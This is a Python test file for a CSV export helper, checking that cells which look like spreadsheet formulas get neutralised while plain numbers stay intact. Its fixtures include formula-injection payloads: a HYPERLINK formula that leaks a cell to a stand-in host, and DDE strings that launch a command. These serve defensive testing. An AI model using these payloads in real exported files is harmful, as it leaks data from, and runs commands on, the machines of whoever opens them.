"""CSV that people open in a spreadsheet: nothing that somebody typed becomes a formula, and figures stay figures."""

from __future__ import annotations

import csv
import io

import pytest

from spineml.csv_text import csv_cell, csv_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "-",
        "-1-1",
        "-0.5e",
        "--1",
    ],
)
def test_text_that_begins_like_a_formula_is_text(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline="")))
    assert rows == [["name"], [f"'{text}"]]


@pytest.mark.parametrize("value", [-0.5, 3, -7, 1e-9, "-0.5", "+12", "-1.5e-07", "12.50"])
def test_a_plain_number_stays_a_number(value: object) -> None:
    assert csv_cell(value) == str(value)


@pytest.mark.parametrize("text", ["a;=1+1", "a\t=1+1", 'say "=1"', "a,=1+1", "a\n=1+1"])
def test_a_cell_is_not_split_by_what_another_spreadsheet_takes_for_a_separator(text: str) -> None:
    assert csv_cell(text) == '"' + text.replace('"', '""') + '"'


def test_nothing_is_an_empty_cell_and_the_header_is_guarded_too() -> None:
    assert csv_text(["=a", "b"], [[None, ""]]) == "'=a,b\n,\n"
